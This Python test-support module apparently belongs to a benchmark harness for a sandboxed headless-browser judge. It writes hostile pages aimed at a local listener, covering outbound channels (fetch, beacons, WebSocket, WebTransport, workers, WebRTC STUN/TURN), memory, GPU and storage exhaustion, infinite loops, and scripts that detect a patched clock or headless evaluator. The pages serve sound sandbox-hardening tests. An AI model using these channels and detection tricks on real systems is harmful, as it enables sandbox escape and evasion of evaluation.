"""A corpus of hostile pages and a real listener they try to reach.

:class:`Listener` is a TCP listener and a UDP socket on all addresses of this machine (so loopback
and the machine's other addresses), in a thread that records every connection or datagram and
stops by itself. :func:`hostile_pages` writes pages that try every way out we know of at that
listener (main thread, iframes, dedicated/shared/service workers, WebSocket, WebTransport,
EventSource, beacons while the tab closes, preconnect/prefetch, WebRTC STUN and TURN), plus pages
that eat memory, spin at load or after a click, never settle, and probe for the judge.
"""

from __future__ import annotations

import selectors
import socket
import threading
import time
from pathlib import Path
from types import TracebackType


def machine_address() -> str | None:
    """A non-loopback IPv4 address of this machine, if it has one (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return None
        address = str(probe.getsockname()[0])
    return None if address.startswith("127.") or address == "0.0.0.0" else address


class Listener:
    """TCP + UDP listener on 0.0.0.0 that records every attempt; stops after ``lifetime`` seconds."""

    def __init__(self, lifetime: float = 240.0) -> None:
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.tcp_port = int(self.tcp.getsockname()[1])
        self.udp_port = int(self.udp.getsockname()[1])
        self.hits: list[str] = []
        self._deadline = time.monotonic() + lifetime
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="hostile-listener", daemon=True)

    def _run(self) -> None:
        sel = selectors.DefaultSelector()
        for sock in (self.tcp, self.udp):
            sock.setblocking(False)
            sel.register(sock, selectors.EVENT_READ)
        with sel:
            while not self._stop.is_set() and time.monotonic() < self._deadline:
                for key, _ in sel.select(timeout=0.1):
                    if key.fileobj is self.tcp:
                        conn, peer = self.tcp.accept()
                        conn.settimeout(0.5)
                        try:
                            first = conn.recv(200)
                        except OSError:
                            first = b""
                        conn.close()
                        self.hits.append(f"tcp from {peer[0]}: {first[:80]!r}")
                    else:
                        data, peer = self.udp.recvfrom(2048)
                        self.hits.append(f"udp from {peer[0]}: {len(data)} bytes")
        self.tcp.close()
        self.udp.close()

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self._stop.set()
        self._thread.join(timeout=5)


_REPORT = """<p id="out">pending</p><script>
const out = (t) => { document.getElementById('out').textContent = t; };
</script>"""

_WORKER = """
const tryit = (f) => { try { f(); } catch (e) {} };
fetch('http://HOST:TCP/worker-fetch', { mode: 'no-cors' }).catch(() => {});
tryit(() => importScripts('http://HOST:TCP/worker-import.js'));
tryit(() => new WebSocket('ws://HOST:TCP/worker-ws'));
tryit(() => new EventSource('http://HOST:TCP/worker-sse'));
tryit(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST:TCP/worker-xhr'); x.send(); });
self.onconnect = (e) => e.ports[0].postMessage('hi');
self.addEventListener('install', () => fetch('http://HOST:TCP/sw-install').catch(() => {}));
"""

_EXFIL = (
    """<!doctype html><html><head>
<link rel="preconnect" href="http://HOST:TCP">
<link rel="dns-prefetch" href="http://HOST:TCP">
<link rel="prefetch" href="http://HOST:TCP/prefetch">
<link rel="preload" as="image" href="http://HOST:TCP/preload.png">
</head><body>"""
    + _REPORT
    + """<script>
const tryit = (f) => { try { f(); } catch (e) {} };
const beacon = () => { tryit(() => navigator.sendBeacon('http://HOST:TCP/beacon', 'bye'));
  tryit(() => fetch('http://HOST:TCP/keepalive',
    { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })); };
addEventListener('pagehide', beacon);
addEventListener('beforeunload', beacon);
addEventListener('visibilitychange', beacon);
tryit(() => new WebSocket('ws://HOST:TCP/ws'));
tryit(() => new EventSource('http://HOST:TCP/sse'));
tryit(() => new WebTransport('https://HOST:UDP/wt'));
fetch('http://HOST:TCP/fetch', { mode: 'no-cors' }).catch(() => {});
const img = new Image(); img.src = 'http://HOST:TCP/img.png';
const frame = document.createElement('iframe'); frame.src = 'http://HOST:TCP/frame';
document.body.appendChild(frame);
const blank = document.createElement('iframe'); document.body.appendChild(blank);
tryit(() => new Worker('worker.js'));
tryit(() => new Worker(URL.createObjectURL(new Blob([document.getElementById('w').textContent]))));
tryit(() => new SharedWorker('worker.js'));
tryit(() => navigator.serviceWorker.register('worker.js').catch(() => {}));
const RTC = window.RTCPeerConnection || (blank.contentWindow && blank.contentWindow.RTCPeerConnection);
tryit(() => {
  const pc = new RTC({ iceServers: [{ urls: 'stun:HOST:UDP' }, { urls: 'stun:OTHER:UDP' },
    { urls: 'turn:HOST:TCP?transport=tcp', username: 'u', credential: 'c' }] });
  pc.createDataChannel('x');
  pc.createOffer().then((o) => pc.setLocalDescription(o));
});
out('sent');
</script><script type="text/plain" id="w">"""
    + _WORKER
    + """</script></body></html>"""
)

_MEMORY = """<!doctype html><html><body><p id="out">eating</p><script>
const keep = [];
// 1.5 GiB at once, before the page has loaded, so it is over the bound whatever the judge does next.
for (let i = 0; i < 24; i++) { const b = new Uint8Array(64 * 1024 * 1024); b.fill(7); keep.push(b); }
function eat() {
  for (let i = 0; i < 4; i++) { const b = new Uint8Array(64 * 1024 * 1024); b.fill(7); keep.push(b); }
  document.getElementById('out').textContent = 'held ' + keep.length * 64 + ' MiB';
  setTimeout(eat, 0);
}
eat();
</script></body></html>"""

_HANG_LOAD = "<!doctype html><html><body>spin<script>while (true) {}</script></body></html>"

_HANG_CLICK = """<!doctype html><html><body>
<button style="width:100vw;height:100vh" onclick="while (true) {}">spin</button>
<script>document.addEventListener('click', () => { while (true) {} }, true);</script></body></html>"""

_NEVER_SETTLES = """<!doctype html><html><body><p id="n" style="font:40px monospace">0</p><script>
let n = 0; const tick = () => { document.getElementById('n').textContent = String(n++);
  document.body.style.background = 'hsl(' + (n % 360) + ',60%,70%)'; requestAnimationFrame(tick); };
tick();
fetch('/never-ending-' + Math.random()).catch(() => {});
</script></body></html>"""

DETECT_SW = """self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('message', (e) => e.source.postMessage([Date.now(), Math.random()]));
"""
"""The detection page's service worker (``detect-sw.js`` beside it): answers with its clock."""

DETECT = (
    """<!doctype html><html><body>"""
    + _REPORT
    + """
<button id="real" onclick="clicked()">real</button><script>
// A window the page opens: its clock is the page's from the first moment.
const clicked = () => {
  const w = window.open('');
  out('real clicked' + (w && Math.abs(w.Date.now() - Date.now()) > 120000 ? ', popup clock' : ''));
};
const seen = [];
const look = () => {
  if ('__iwr__' in window || window.__iwr__ !== undefined) seen.push('__iwr__');
  if (Object.getOwnPropertyNames(window).some((k) => /iwr|judge/i.test(k))) seen.push('global');
  const native = (f, name) =>
    Function.prototype.toString.call(f) === 'function ' + name + '() { [native code] }';
  if (!native(Math.random, 'random')) seen.push('Math.random source');
  if (!native(Date.now, 'now')) seen.push('Date.now source');
  if (!native(Date, 'Date')) seen.push('Date source');
  if (!native(Function.prototype.toString, 'toString')) seen.push('toString source');
  if (Math.random.prototype !== undefined || Math.random.length !== 0) seen.push('Math.random shape');
  if (Date.now.name !== 'now' || Date.prototype.constructor !== Date) seen.push('Date shape');
  if (Math.abs(performance.timeOrigin + performance.now() - Date.now()) > 1000) seen.push('clock skew');
  if (document.querySelector('style')) seen.push('style element');
  if (navigator.webdriver) seen.push('webdriver');
  return seen;
};
look();
window.__iwr__ = { els: [document.body], gen: 99, scroller: document.body };
const decoy = document.createElement('button');
decoy.textContent = 'decoy'; decoy.onclick = () => out('decoy clicked');
document.body.appendChild(decoy);
// The page's own server must not reveal the real time either (Date, Last-Modified, ETag headers).
const headers = fetch(location.href, { method: 'HEAD', cache: 'no-store' }).then((r) => {
  const served = Date.parse(r.headers.get('date') || '');
  if (!Number.isNaN(served) && Math.abs(served - Date.now()) > 120000) seen.push('server Date header');
  if (r.headers.get('last-modified')) seen.push('Last-Modified header');
  if (r.headers.get('etag')) seen.push('ETag header');
}).catch(() => seen.push('HEAD failed'));
// Every other door to the real date, and what tells a headless browser from a person's.
const far = (t) => !(Math.abs(t - Date.now()) < 120000);
if (far(Date.parse(document.lastModified))) seen.push('document.lastModified');
const dtf = new Intl.DateTimeFormat('en-US');
if (dtf.format() !== dtf.format(new Date())) seen.push('Intl format()');
if (dtf.formatToParts().find((p) => p.type === 'year').value !== String(new Date().getFullYear())) {
  seen.push('Intl formatToParts()');
}
if (/headless/i.test(navigator.userAgent)) seen.push('user agent');
const brands = navigator.userAgentData ? navigator.userAgentData.brands : [];
if (brands.some((b) => /headless/i.test(b.brand))) seen.push('client hint brands');
if (outerWidth < innerWidth || outerHeight < innerHeight) seen.push('window smaller than its page');
if (screen.width < outerWidth || screen.height < outerHeight) seen.push('screen smaller than the window');
if (typeof RTCPeerConnection !== 'function') seen.push('no RTCPeerConnection');
const made = document.createElement('iframe');
document.body.appendChild(made);
if (far(made.contentWindow.Date.now())) seen.push('new frame clock');
const heard = (kind) => new Promise((resolve) => {
  addEventListener('message', (e) => { if (e.data && e.data[0] === kind) resolve(e.data); });
  setTimeout(() => resolve(null), 3000);
});
const sandboxed = heard('sandboxed').then((d) => {
  if (!d || far(d[1])) seen.push('sandboxed frame clock');
});
const frame = document.createElement('iframe');
frame.sandbox = 'allow-scripts';
frame.srcdoc = "<script>parent.postMessage(['sandboxed', Date.now()], '*')<" + "/script>";
document.body.appendChild(frame);
let drawn = null;
// each answer once: a realm that has not answered in 3 s is "silent"
const answer = (name, check) => new Promise((resolve) => {
  let done = false;
  const end = (why) => { if (!done) { done = true; if (why) seen.push(why); resolve(); } };
  setTimeout(() => end(name + ' silent'), 3000);
  try { check(end); } catch (e) { end(name + ' failed: ' + e); }
});
const worker = answer('worker', (end) => {
  const code = 'postMessage([Date.now(), new Intl.DateTimeFormat("en-US").format(), Math.random()])';
  const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  w.onmessage = (e) => {
    if (far(e.data[0])) seen.push('worker clock');
    if (e.data[1] !== dtf.format()) seen.push('worker Intl');
    drawn = e.data[2];
    end();
  };
  w.onerror = () => end('worker failed');
});
const shared = answer('shared worker', (end) => {
  const code = 'onconnect = (e) => e.ports[0].postMessage([Date.now(), Math.random()])';
  const w = new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  w.port.onmessage = (e) => { if (far(e.data[0])) seen.push('shared worker clock'); end(); };
  w.onerror = () => end('shared worker failed');
});
const service = answer('service worker', (end) => {
  navigator.serviceWorker.onmessage = (e) => {
    if (far(e.data[0])) seen.push('service worker clock');
    end();
  };
  navigator.serviceWorker.register('detect-sw.js')
    .then(() => navigator.serviceWorker.ready)
    .then((r) => r.active.postMessage('when'))
    .catch((e) => end('service worker failed: ' + e));
});
Promise.all([headers, sandboxed, worker, shared, service]).then(() =>
  out(seen.length ? 'detected: ' + seen.join(', ') : 'clean; worker drew ' + drawn));
</script></body></html>"""
)

FLOOD = (
    """<!doctype html><html><head><title>"""
    + "T" * 100000
    + """</title></head><body>
<a href="/"""
    + "h" * 100000
    + """" aria-label=\""""
    + "a" * 100000
    + """\">link</a>
<input placeholder=\""""
    + "p" * 100000
    + """\" role=\""""
    + "r" * 100000
    + """\">
<label for="x">"""
    + "l" * 100000
    + """</label><input id="x">
</body></html>"""
)

ORDINARY = """<!doctype html><html><body style="font:24px sans-serif">
<p id="c">count 0</p><button onclick="n++; document.getElementById('c').textContent = 'count ' + n">+</button>
<script>let n = 0;</script></body></html>"""


GPU_HOG = """<!doctype html><html><body><p id="s">start</p><canvas id="c" width="64" height="64"></canvas>
<script>
// WebGL textures live in Chromium's GPU process, outside the page's renderer
const gl = document.getElementById('c').getContext('webgl');
const s = document.getElementById('s');
if (!gl) { s.textContent = 'no webgl'; } else {
  const N = 2048, data = new Uint8Array(N * N * 4);
  let n = 0;
  const more = () => {
    for (let k = 0; k < 4; k++) {
      gl.bindTexture(gl.TEXTURE_2D, gl.createTexture());
      gl.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, N, N, 0, gl.RGBA, gl.UNSIGNED_BYTE, data);
      n++;
    }
    gl.finish();
    s.textContent = 'textures ' + n;
    if (n < 160) setTimeout(more, 20);
  };
  more();
}
</script></body></html>"""
"""Fills the GPU process with 16 MiB textures (2.5 GiB in all)."""

STORAGE_HOG = """<!doctype html><html><body><p id="s">start</p><script>
// data stored by an off-the-record context lives in Chromium's browser process
const s = document.getElementById('s');
const chunk = new Uint8Array(32 * 1024 * 1024);
for (let i = 0; i < chunk.length; i += 4096) chunk[i] = i & 255;
(async () => {
  const cache = await caches.open('hog');
  for (let n = 0; n < 80; n++) {
    await cache.put('/k' + n, new Response(chunk.slice()));
    s.textContent = 'stored ' + (n + 1) * 32 + ' MiB';
  }
})().catch((e) => { s.textContent = 'error ' + e; });
</script></body></html>"""
"""Stores 32 MiB answers in Cache Storage (2.5 GiB in all)."""

BLOB_HOG = """<!doctype html><html><body><p id="s">start</p><script>
// a Blob's bytes go to the browser process's blob store, outside every quota
const s = document.getElementById('s');
const kept = [];
const chunk = new Uint8Array(32 * 1024 * 1024);
for (let i = 0; i < chunk.length; i += 4096) chunk[i] = i & 255;
(async () => {
  for (let n = 0; n < 80; n++) {
    kept.push(new Blob([chunk]));
    await new Promise((done) => setTimeout(done, 50));
    s.textContent = 'held ' + (n + 1) * 32 + ' MiB';
  }
})();
</script></body></html>"""
"""Holds 32 MiB Blobs (2.5 GiB in all)."""


def _fill(text: str, listener: Listener, other: str) -> str:
    return (
        text.replace("HOST", "127.0.0.1")
        .replace("OTHER", other)
        .replace("TCP", str(listener.tcp_port))
        .replace("UDP", str(listener.udp_port))
    )


_ONE = """<!doctype html><html><head>%s</head><body><p id="out">sent</p><script>
const tryit = (f) => { try { f(); } catch (e) {} };
%s
</script></body></html>"""


def _peer(constructor: str) -> str:
    """Script opening a WebRTC connection with ``constructor`` towards the listener (STUN over UDP,
    TURN over TCP)."""
    return (
        f"tryit(() => {{ const pc = new {constructor}({{ iceServers: [{{ urls: 'stun:HOST:UDP' }},"
        " { urls: 'turn:HOST:TCP?transport=tcp', username: 'u', credential: 'c' }] });"
        " pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); });"
    )


CHANNELS: dict[str, tuple[str, str, str]] = {
    # name: (head, script, the word the intercept-only warning uses for it)
    "fetch": ("", "fetch('http://HOST:TCP/fetch', { mode: 'no-cors' }).catch(() => {});", "fetch"),
    "image": ("", "new Image().src = 'http://HOST:TCP/img.png';", "image"),
    "frame": (
        "",
        "const f = document.createElement('iframe'); f.src = 'http://HOST:TCP/frame';"
        " document.body.appendChild(f);",
        "frame load",
    ),
    "worker": (
        "",
        "tryit(() => new Worker(URL.createObjectURL(new Blob(["
        "\"fetch('http://HOST:TCP/worker', { mode: 'no-cors' }).catch(() => {})\"]))));",
        "worker",
    ),
    "websocket": ("", "tryit(() => new WebSocket('ws://HOST:TCP/ws'));", "WebSocket"),
    "event-source": ("", "tryit(() => new EventSource('http://HOST:TCP/sse'));", "EventSource"),
    "webtransport": ("", "tryit(() => new WebTransport('https://HOST:UDP/wt'));", "WebTransport"),
    "webrtc": ("", _peer("RTCPeerConnection"), "WebRTC"),
    "webrtc-popup": (
        "",
        "document.addEventListener('click', () => { const w = window.open(''); if (!w) return; "
        + _peer("w.RTCPeerConnection")
        + " });",
        "WebRTC",
    ),
    "link-hints": (
        '<link rel="preconnect" href="http://HOST:TCP"><link rel="dns-prefetch" href="http://HOST:TCP">'
        '<link rel="prefetch" href="http://HOST:TCP/prefetch">'
        '<link rel="preload" as="image" href="http://HOST:TCP/preload.png">',
        "",
        "preconnect",
    ),
    "speculation-rules": (
        '<script type="speculationrules">{"prefetch": [{"source": "list", "urls":'
        ' ["http://HOST:TCP/speculated"]}]}</script>',
        "",
        "speculation",
    ),
    "unload-beacon": (
        "",
        "const bye = () => { tryit(() => navigator.sendBeacon('http://HOST:TCP/beacon', 'x'));"
        " tryit(() => fetch('http://HOST:TCP/keepalive', { method: 'POST', body: 'x',"
        " keepalive: true, mode: 'no-cors' })); };"
        " addEventListener('pagehide', bye); addEventListener('visibilitychange', bye);",
        "beacon",
    ),
}
"""One page per way out, each aimed at the listener, for measuring what interception alone lets
through: name -> (head, script, the word a warning names it by)."""


def channel_page(name: str, root: Path, listener: Listener) -> Path:
    """Write the page of channel ``name`` under ``root/<name>/`` and return its folder."""
    head, script, _ = CHANNELS[name]
    folder = root / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "index.html").write_text(_fill(_ONE % (head, script), listener, "127.0.0.1"), encoding="utf-8")
    return folder


def hostile_pages(root: Path, listener: Listener) -> dict[str, Path]:
    """Write every hostile page under ``root/<name>/`` and return name -> page folder.

    ``exfil-other`` aims the same channels at the machine's non-loopback address.
    """
    other = machine_address() or "127.0.0.1"
    pages = {
        "exfil": {"index.html": _EXFIL, "worker.js": _WORKER},
        "exfil-other": {
            "index.html": _EXFIL.replace("HOST", other),
            "worker.js": _WORKER.replace("HOST", other),
        },
        "memory": {"index.html": _MEMORY},
        "hang-load": {"index.html": _HANG_LOAD},
        "hang-click": {"index.html": _HANG_CLICK},
        "never-settles": {"index.html": _NEVER_SETTLES},
        "detect": {"index.html": DETECT},
        "flood": {"index.html": FLOOD},
    }
    out: dict[str, Path] = {}
    for name, files in pages.items():
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        for file, text in files.items():
            (folder / file).write_text(_fill(text, listener, other), encoding="utf-8")
        out[name] = folder
    return out


def chromium_leftovers(roots: list[int], folders: tuple[str, ...] = ()) -> list[str]:
    """Chromium processes still alive below the given PIDs, or any process naming one of ``folders``
    (the browsers' temporary folders: a crash handler that left the process tree names them)."""
    from iwr_bench.tools.process import descendants

    alive: list[str] = []
    for pid in [*roots, *(d for r in roots for d in descendants(r))]:
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            continue
        if stat.rsplit(")", 1)[1].split()[0] != "Z":
            alive.append(f"{pid}: {stat.split(')')[0]})")
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmd = (proc / "cmdline").read_bytes()
            except OSError:
                continue
            if any(folder.encode() in cmd for folder in folders):
                alive.append(f"{proc.name}: {cmd[:60]!r}")
    return alive
